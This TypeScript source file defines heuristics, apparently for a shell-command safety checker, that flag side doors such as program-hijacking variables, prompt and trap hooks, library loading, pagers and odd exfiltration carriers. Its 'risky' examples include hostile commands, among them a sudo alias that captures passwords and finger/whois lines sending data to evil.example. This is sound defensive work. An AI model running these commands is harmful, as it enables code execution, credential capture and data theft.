// Side doors: quieter ways to run something: variables, libraries, interactive programs, package files, code that spawns.
import type { CommandFact } from "../../../../shared/facts.ts";
import { loadingVariables } from "../../normalise/builtins.ts";
import { severity } from "../bands.ts";
import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, onPath, onText } from "../heuristic.ts";
import { given, joined, operands } from "../read.ts";

/** Variables whose value some program runs or loads. */
const runningVariable =
  /^(?:(?:\w*_)?(?:PAGER|EDITOR|VISUAL|BROWSER|SHELL|COMMAND|LESSOPEN|LESSCLOSE)|LESSOPEN|LESSCLOSE|\w*PAGER|BASH_ENV|ENV|PROMPT_COMMAND|PERL5(?:OPT|DB|LIB)|PYTHON(?:STARTUP|HOME|INSPECT|WARNINGS)|RUBYOPT|NODE_OPTIONS|JAVA_TOOL_OPTIONS|GIT_(?:SSH|SSH_COMMAND|PAGER|EDITOR|EXTERNAL_DIFF|ASKPASS|PROXY_COMMAND)|GROFF_BIN_PATH|FACTERLIB|SSH_ASKPASS|SUDO_ASKPASS|MANOPT|TERMINFO|GCONV_PATH|PS4|IFS)$/u;
const harmlessValue =
  /^(?:cat|less(?: -\S+)*|more|most|vim?|nano|emacs|true|:|never|always|code(?: --wait)?|ignore\S*|error\S*|default\S*|--max\S*|--no-\S*|--openssl\S*|1|0|)$/u;
/** Programs that take orders from a keyboard, among them "run this command". An agent has no keyboard. */
const interactive =
  /^(?:less|more|most|pg|man|info|vim?|view|nvim|nano|pico|emacs|ed|red|ex|joe|jed|mc|ranger|ncdu|irb|pry|ghci|tclsh|wish|ftp|ncftp|sftp|psftp|telnet|minicom|mail|mailx|mutt|screen|tmux|ispell|aspell|iftop|top|htop|journalctl|crash|debugfs|asterisk|tasksh|yash|sash|rc|script|fzf|bashbug|apport-cli|dialog|elinks|links|lynx|w3m|gdb|sqlite3|psql|mysql|batcat|bat|byebug|ansible-test|msfconsole|wireshark|systemctl|aptitude|cancel|smbclient|runmqsc|expect)$/u;

/** Programs that hand long output to a pager. */
const pagers =
  /^(?:git|cargo|bundle|bundler|go|hg|svn|conda|npm|rustup|gem|systemctl|apt|apt-get|aptitude|dnf|yum|zypper|rustc|dpkg|dmesg|systemd-resolve|resolvectl|busctl|loginctl|timedatectl|hostnamectl|localectl|machinectl|coredumpctl|networkctl|bluetoothctl|eb|perldoc|pydoc3?|ri|apport-cli|cowsay|cowthink)$/u;

function changesNothing(name: string, value: string): boolean {
  if (name === "NODE_OPTIONS") return !/(?:^|\s)(?:-r|--(?:require|import|(?:experimental-)?loader))\b/u.test(value);
  if (name === "RUBYOPT") return !/(?:^|\s)-r/u.test(value);
  if (name === "ENV") return !value.includes("/");
  return harmlessValue.test(value);
}

function isLoadedBy(command: CommandFact, file: string): boolean {
  const given = Object.entries(command.assignments);
  if (/^(?:export|declare|typeset)$/u.test(command.program))
    for (const word of command.arguments) given.push([word.split("=", 1)[0] ?? "", word]);
  return given.some(([name, value]) => Object.hasOwn(loadingVariables, name) && value.includes(file));
}

export const sideDoors: readonly Heuristic[] = [
  {
    id: "variable-runs-program",
    threat: "Living off the land",
    technique: "T1574.007",
    score: severity.warn,
    check: onAnyCommand(["assignment"], (command) => {
      const found = Object.entries(command.assignments).find(
        ([name, value]) => runningVariable.test(name) && name !== "IFS" && !changesNothing(name, value),
      );
      return found === undefined || (command.program === "" && !/^(?:PROMPT_COMMAND|BASH_ENV|ENV)$/u.test(found[0]))
        ? null
        : `${found[0]} makes ${command.program || "the shell"} run something else`;
    }),
    examples: {
      risky: ["LESSOPEN='/bin/sh %s' less /etc/hosts", "PAGER='sh -c id' git log", "BASH_ENV=/tmp/x bash a.sh"],
      honest: [
        "PAGER=cat git log",
        "EDITOR=vim git commit",
        "PYTHONWARNINGS=ignore python a.py",
        "NODE_OPTIONS='--experimental-vm-modules --trace-warnings' npx jest",
        "RUBYOPT=-W0 bundle exec rspec",
        "ENV=production npm start",
      ],
    },
  },
  {
    id: "variable-loads-code",
    threat: "Living off the land",
    technique: "T1574",
    score: severity.ask,
    check: onPath(["execute"], (path, view) =>
      path.zone === "temporary" && view.facts.commands.some((command) => isLoadedBy(command, path.given))
        ? `A variable makes other programs load ${path.path} when they start`
        : null,
    ),
    examples: {
      risky: [
        "NODE_OPTIONS='--require /tmp/x.js' npm test",
        "export NODE_OPTIONS=--import=/tmp/x.mjs",
        "env PYTHONSTARTUP=/tmp/x.py python3 -i",
        "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar mvn test",
        "GIT_EXEC_PATH=/tmp/x git status",
      ],
      honest: [
        "NODE_OPTIONS='--require ./test/setup.js' npx mocha",
        "NODE_OPTIONS='--import tsx' node --test",
        "PYTHONSTARTUP=~/.pythonrc python3",
        "NODE_OPTIONS=--max-old-space-size=4096 node /tmp/x.js",
        "JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp/x mvn test",
      ],
    },
  },
  {
    id: "prompt-hooked",
    threat: "Persistence",
    technique: "T1546",
    score: severity.ask,
    check: firstOf(
      onText(/(?:^|[\n;&]\s*)prompt_command=['"]?[^'"\s]/u, "It makes the shell run something after every command"),
      onAnyCommand(["assignment"], (command) =>
        Object.hasOwn(command.assignments, "PROMPT_COMMAND")
          ? "It makes the shell run something after every command"
          : null,
      ),
      onCommand(["trap"], (command) =>
        /\b(?:DEBUG|RETURN|ERR)\b/u.test(joined(command)) && /\$BASH_COMMAND|>>|curl|nc\b|logger/u.test(joined(command))
          ? "It makes the shell record or run something at every command"
          : null,
      ),
      onCommand(["export"], (command) =>
        /^PROMPT_COMMAND=./u.test(command.arguments[0] ?? "")
          ? "It makes the shell run something after every command"
          : null,
      ),
      onCommand(["alias"], (command) =>
        /^(?:sudo|ssh|su|ls|cd|passwd|git)=/u.test(command.arguments[0] ?? "") &&
        /curl|wget|nc\b|tee\b|>>|base64|\/tmp\//u.test(joined(command))
          ? "It hides another command behind an ordinary name"
          : null,
      ),
    ),
    examples: {
      risky: [
        "PROMPT_COMMAND='history -a >(tee -a /tmp/log)'",
        "trap 'echo $BASH_COMMAND >> /tmp/.log' DEBUG",
        "alias sudo='tee /tmp/p | sudo'",
      ],
      honest: ["alias ll='ls -l'", "trap 'rm -f $tmp' EXIT"],
    },
  },
  {
    id: "library-loaded",
    threat: "Living off the land",
    technique: "T1574",
    score: severity.warn,
    check: firstOf(
      onAnyCommand([{ words: /\.so|\.dylib/u }], (command) =>
        /(?:^|[\s=:])(?:\.{0,2}\/)\S*\.(?:so|dylib)(?:\.\d+)*(?:$|[\s"'])/u.test(joined(command)) &&
        !/^(?:ls|gcc|cc|g\+\+|clang|clang\+\+|ld|ldd|nm|objdump|readelf|file|cp|mv|rm|strip|strings|patchelf|install|ln|chmod|find|grep|stat|tar|du|md5sum|sha256sum|echo|cat|test|\[|ldconfig|llvm-\w+|otool|addr2line|size|rsync|scp|gdb|perf|export)$/u.test(
          command.program,
        )
          ? `${command.program} loads the library it is given`
          : null,
      ),
      onCommand(["redis-cli", "valkey-cli"], (command) =>
        /\bmodule\s+load(?:ex)?\s/iu.test(joined(command)) ? "The database loads the library it is given" : null,
      ),
      onCode((code) =>
        /\bdlopen\b|ctypes\.cdll\.loadlibrary|fiddle|ffi\.load|package\.loadlib|load_extension/iu.test(
          code.text.slice(0, 65_536),
        ) && /\.(?:so|dylib|dll)\b/iu.test(code.text)
          ? "Its code loads a library"
          : null,
      ),
    ),
    examples: {
      risky: ["ssh-keygen -D ./lib.so", "openssl req -engine ./hook.so"],
      honest: ["ldd ./lib.so", "gcc -shared -o ./lib.so a.c"],
    },
  },
  {
    id: "code-spawns",
    threat: "Living off the land",
    technique: "T1059",
    score: severity.note,
    check: onCode((code) =>
      /\b(?:shell_exec|proc_open|passthru|popen|exec|system|spawn\w*|os\.execute|subprocess)\s*[.(]/iu.test(
        code.text.slice(0, 65_536),
      ) &&
      /^(?:php|ruby|perl|lua|tcl|r|awk|javascript|python)/u.test(code.language) &&
      code.text.length < 2_000
        ? `Its ${code.language} code starts another program`
        : null,
    ),
    examples: { risky: [`php -r 'echo shell_exec("id");'`], honest: [`php -r 'echo 1;'`] },
  },
  {
    id: "interactive-program",
    threat: "Living off the land",
    technique: "T1202",
    score: severity.note,
    check: onCommand(interactive, (command) =>
      command.position === 0 &&
      command.input === undefined &&
      command.arguments.length <= 2 &&
      !command.redirects.some((redirect) => redirect.operator.includes(">")) &&
      !command.arguments.some((argument) => /^--?(?:version|help|c|e|batch|no-pager|f|u|n)\b/u.test(argument))
        ? `${command.program} waits for a keyboard and can run any command from there`
        : null,
    ),
    examples: {
      risky: ["less /etc/hosts", "man man", "ftp"],
      honest: ["cat /etc/hosts", "vim --version", "journalctl --no-pager -u x"],
    },
  },
  {
    id: "opens-pager",
    threat: "Living off the land",
    technique: "T1202",
    score: severity.note,
    check: onCommand(pagers, (command) => {
      const line = joined(command);
      const pages =
        (/^(?:git|cargo|bundle|bundler|go|hg|svn|conda|npm|rustup|gem|systemctl)$/u.test(command.program) &&
          /^help\b/u.test(line)) ||
        (/^(?:apt|apt-get|aptitude|dnf|yum|zypper)$/u.test(command.program) && /^changelog\b/u.test(line)) ||
        (command.program === "rustc" && line.includes("--explain")) ||
        (command.program === "dpkg" && /^(?:-l|--list)\b/u.test(line)) ||
        (command.program === "dmesg" && given(command, "H", "human")) ||
        /^(?:systemd-resolve|resolvectl|busctl|loginctl|timedatectl|hostnamectl|localectl|machinectl|coredumpctl|networkctl|bluetoothctl|eb|perldoc|pydoc3?|ri|apport-cli|cowsay|cowthink)$/u.test(
          command.program,
        );
      return pages &&
        command.position === 0 &&
        !line.includes("--no-pager") &&
        !command.redirects.some((redirect) => redirect.operator.includes(">"))
        ? `${command.program} may hand its output to a pager, from which any command can be started`
        : null;
    }),
    examples: {
      risky: ["git help config", "dpkg -l", "busctl --show-machine"],
      honest: ["git status", "dpkg -l > list.txt", "busctl --no-pager list"],
    },
  },
  {
    id: "runs-named-class",
    threat: "Living off the land",
    technique: "T1202",
    score: severity.note,
    check: firstOf(
      onCommand(["java", "jjs", "scala"], (command) =>
        operands(command).length > 0 && !given(command, "", "version")
          ? `${command.program} runs a program that is not shown`
          : null,
      ),
      onCommand(
        [
          "cpan",
          "irb",
          "pry",
          "ghci",
          "gem",
          "bundle",
          "bundler",
          "octave",
          "dvips",
          "pic",
          "eqn",
          "tbl",
          "opkg",
          "opencode",
          "dstat",
          "rlwrap",
          "latex",
          "pdflatex",
          "xelatex",
          "lualatex",
          "tex",
          "pdftex",
          "dosbox",
          "xargs",
        ],
        (command) =>
          /^(?:open|console|!)|-U\b|-R0|(?:^|\s)-o\b.*\/\S*sh\b|--plugin|--x{3}|\\(?:newwrite|input|openin|openout|write18|usepackage\{verbatim\})|\bdb\b|mount c|^-l\s|^-a\s|^$/u.test(
            joined(command),
          )
            ? `${command.program} can be told to run or write anything`
            : null,
      ),
      onCommand(["git"], (command) =>
        /--unsafe-paths/u.test(joined(command)) ? "git may write outside the project" : null,
      ),
    ),
    examples: {
      risky: ["java Shell", "gem open debug", "pic -U", "git apply --unsafe-paths x.patch"],
      honest: ["java --version", "gem list", "git apply x.patch"],
    },
  },
  {
    id: "package-file-installed",
    threat: "Untrusted package",
    technique: "T1195.002",
    score: severity.medium,
    check: firstOf(
      onCommand(["rpm", "dpkg"], (command) =>
        /(?:^|\s)-\w*[iU]\w*\b|--install|--upgrade/u.test(joined(command)) &&
        operands(command).some((operand) => /\.(?:rpm|deb)$/u.test(operand))
          ? "It installs a package file, whose scripts run with the administrator's rights"
          : null,
      ),
      onCommand(
        ["apt", "apt-get", "yum", "dnf", "zypper", "pkg", "apk", "opkg", "pacman", "snap", "installer"],
        (command) =>
          operands(command).some((operand) => /\.(?:rpm|deb|txz|apk|snap|ipk|pkg|pkg\.tar\.\w+)$/u.test(operand)) ||
          /--dangerous|--devmode|--allow-untrusted/u.test(joined(command))
            ? "It installs a package file, whose scripts run with the administrator's rights"
            : null,
      ),
    ),
    examples: {
      risky: ["dpkg -i ./x.deb", "snap install x.snap --dangerous"],
      honest: ["apt-get install jq", "dpkg -l"],
    },
  },
  {
    id: "shell-written",
    threat: "Living off the land",
    technique: "T1059",
    score: severity.medium,
    check: onCommand(["echo", "printf"], (command) =>
      command.redirects.some((redirect) => redirect.operator.includes(">")) &&
      /(?<!#!\s?)\/bin\/(?:ba|z|da)?sh\b/u.test(joined(command))
        ? "It writes the start of a shell into a file that something else runs"
        : null,
    ),
    examples: {
      risky: [`echo '{"scripts":{"x":"/bin/sh"}}' > package.json`, `echo 'system("/bin/sh")' > Gemfile`],
      honest: ["echo '#!/bin/sh' > run.sh", "echo hi > a.txt"],
    },
  },
  {
    id: "odd-carrier",
    threat: "Data exfiltration",
    technique: "T1048",
    score: severity.medium,
    check: firstOf(
      onCommand(["finger", "rlogin", "rsh", "uucp", "cu"], (command) =>
        operands(command).length > 0 ? `${command.program} carries data to another machine` : null,
      ),
      onCommand(["whois"], (command) =>
        /(?:^|\s)-[hp]\b/u.test(joined(command)) ? "whois carries data to another machine" : null,
      ),
      onCommand(["cancel", "lp", "lpr"], (command) =>
        /(?:^|\s)-h\s*\S+:\d+/u.test(joined(command)) ? `${command.program} carries data to another machine` : null,
      ),
      onCommand(["smbclient"], (command) =>
        /\bput\b/u.test(joined(command)) ? "smbclient sends a file to another machine" : null,
      ),
    ),
    examples: {
      risky: ["finger DATA@evil.example", "whois -h evil.example -p 4444 data"],
      honest: ["whois example.org"],
    },
  },
];
